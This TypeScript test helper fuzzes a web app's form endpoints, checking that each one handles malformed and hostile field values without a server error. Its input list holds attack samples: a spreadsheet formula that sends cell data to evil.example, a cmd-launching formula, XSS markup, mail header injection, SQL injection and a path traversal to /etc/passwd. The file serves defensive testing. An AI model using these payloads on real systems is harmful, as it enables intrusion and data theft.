/** For tests: what no form expects, and what a form is told that brings it. */
import path from 'node:path'
import { expect } from 'vitest'
import { z } from 'zod'
import { madeByEndpoint } from '@/lib/endpoint'
import errors from '@/lib/i18n/messages/en/errors.json'

export const origin = 'http://localhost:3000'
export const folder = path.join(process.cwd(), 'app', 'api')

/** Texts that a person, a spreadsheet or a malicious program may put into any field. */
const texts: Record<string, string> = {
  'nothing at all': '',
  'spaces alone': ' \u3000\t ',
  'thirty thousand characters': '长'.repeat(30_000),
  'other scripts and an emoji of several': 'ᠮᠣᠩᠭᠣᠯ ᠪᠢᠴᠢᠭ مرحبا 👩‍👩‍👧‍👦',
  'marks that turn the direction': '\u202egnp.exe\u2066 \u200f',
  NUL: 'a\0b',
  'control characters': '\u0007\u001b[31mred',
  'a formula': '=HYPERLINK("https://evil.example/?"&A1,"Open")',
  'a formula after a tab': "\t@SUM(1+9)*cmd|' /C calc'!A0",
  HTML: '"><img src=x onerror=alert(1)><script>alert(1)</script>',
  'head lines of a mail': 'Subject\r\nBcc: everybody@example.org',
  'what a message is made of': "{name} {count, plural, other {#}} '; drop table people; --",
  'what every object has': '__proto__',
  'a path': '../../../etc/passwd%00',
}
/** All of them, and one that only an address can hold. */
export const anything = [...Object.values(texts), 'a\ud800b']
/** Those that hashing a password for each of would take too long. */
const few = ['thirty thousand characters', 'NUL', 'marks that turn the direction', 'a formula', 'HTML']

/** What JSON alone can bring. */
const values: Record<string, unknown> = {
  'a lone surrogate': 'a\ud800b',
  'a number': 5,
  'no value': null,
  'an object': { toString: 'a' },
}

type Handler = (request: Request, context: { params: Promise<Record<string, string>> }) => Promise<Response>

export type Row = {
  /** Its file under app/api. */
  file: string
  params?: Record<string, string>
  /** All its fields, as somebody fills them in who makes no mistake. */
  fields: Record<string, string>
  /** What is filled in and shown again when it is refused. */
  kept?: string[]
  /** Made anew before each try: what it is done to, by its fields and parameters. */
  before?: () => Promise<{ params?: Record<string, string>; fields?: Record<string, string> }>
  slow?: true
  /** Not reached in this register by what is right: which refusal then tells that it was understood. */
  understood?: string
}

async function handlerOf(file: string): Promise<Handler> {
  return ((await import(/* @vite-ignore */ path.join(folder, file))) as Record<string, Handler>).POST!
}

export async function inputOf(file: string): Promise<z.ZodType> {
  return ((await handlerOf(file)) as unknown as Record<symbol, z.ZodType>)[madeByEndpoint]!
}

/** The fields that a form of this input may have; of one that differs by its deed, those of the deed. */
export function fieldsOf(input: z.ZodType, deed?: string): string[] {
  if (input instanceof z.ZodDiscriminatedUnion) {
    const options = input.options as z.ZodObject[]
    return fieldsOf(options.find(({ shape }) => (shape.deed as z.ZodType).safeParse(deed).success)!)
  }
  return Object.keys((input as z.ZodObject).shape)
}

/** The files of the forms of the first run: tried apart, in a register in which nothing is recorded. */
export const firstRunFiles = [
  'settings/first-body/route.ts',
  'setup/route.ts',
  'setup/settings/[name]/route.ts',
  'setup/test-mail/route.ts',
  'setup/administrator/route.ts',
]

type Tried = Pick<Row, 'file' | 'params'>
type Fields = Record<string, string>

async function post({ file, params }: Tried, type: string, body: string): Promise<Response> {
  const handler = await handlerOf(file)
  const headers = { origin, 'content-type': type, referer: `${origin}/en/help` }
  const request = new Request(`${origin}/api/${path.dirname(file)}`, { method: 'POST', headers, body })
  return handler(request, { params: Promise.resolve(params ?? {}) })
}

/** As a browser without a script. A handler that throws is a server error. */
async function send(to: Tried, fields: Fields) {
  const form = new URLSearchParams(fields).toString()
  const answer = await post(to, 'application/x-www-form-urlencoded', form)
  const { searchParams } = new URL(answer.headers.get('location') ?? '/', origin)
  const typed = answer.headers.getSetCookie().find((cookie) => cookie.startsWith('entente-typed='))
  return {
    status: answer.status,
    /** Null: accepted. */
    code: searchParams.get('error'),
    held: searchParams.get('held'),
    remembered: typed && Buffer.from(typed.slice(14).split(';')[0]!, 'base64url').toString(),
  }
}

/** Of these nothing is kept: they are no mistake of somebody who types, or not of what was typed. */
const unkept = ['bad_request', 'forbidden', 'not_found', 'lines_left', 'too_many']
/** Said by the page itself, and not as a refusal. */
const isSaid = (code: string) => code in errors.refusals || code === 'lines_left'

/**
 * Brings each of the texts and values in each field, all else as it should be; then everything as it should be, which must be
 * accepted. `ready`: before each; `findKept`: what was kept under this id.
 */
export async function tryRow(
  row: Row,
  ready: () => Promise<unknown>,
  findKept: (held: string) => Promise<Fields | undefined>,
): Promise<void> {
  const filled = async (name: string, value: unknown) => {
    await ready()
    const made = (await row.before?.()) ?? {}
    const fields: Record<string, unknown> = { ...row.fields, ...made.fields, [name]: value }
    return { to: { file: row.file, params: { ...row.params, ...made.params } }, fields }
  }
  for (const name of Object.keys(row.fields)) {
    for (const [what, text] of Object.entries(texts)) {
      if (row.slow && !few.includes(what)) continue
      const { to, fields } = await filled(name, text)
      const { status, code, held, remembered } = await send(to, fields as Fields)
      const place = [row.file, name, what, code].join(' · ')
      expect([place, status]).toEqual([place, 303])
      if (code === null) continue
      expect([place, isSaid(code)]).toEqual([place, true])
      if (!row.kept || unkept.includes(code)) continue
      const kept = held ? await findKept(held) : JSON.parse(remembered ?? '{}')
      for (const field of row.kept) {
        const typed = String(fields[field]).replaceAll('\0', '\ufffd')
        expect([place, field, kept?.[field]]).toEqual([place, field, held ? typed : typed.slice(0, 200)])
      }
      expect(JSON.stringify(kept)).not.toContain(passwords.again)
    }
    for (const [what, value] of Object.entries(values)) {
      if (row.slow && what !== 'a lone surrogate') continue
      const { to, fields } = await filled(name, value)
      const answer = await post(to, 'application/json', JSON.stringify(fields))
      const code = answer.ok ? null : (await answer.json()).code
      const place = [row.file, name, what, code].join(' · ')
      expect([place, answer.status < 500]).toEqual([place, true])
      if (code) expect([place, isSaid(code)]).toEqual([place, true])
    }
  }
  const { to, fields } = await filled('locale', 'zh')
  expect([null, row.understood]).toContain((await send(to, fields as Fields)).code)
}

export const passwords = { before: 'salt lake caravan', again: 'seven red cranes' }
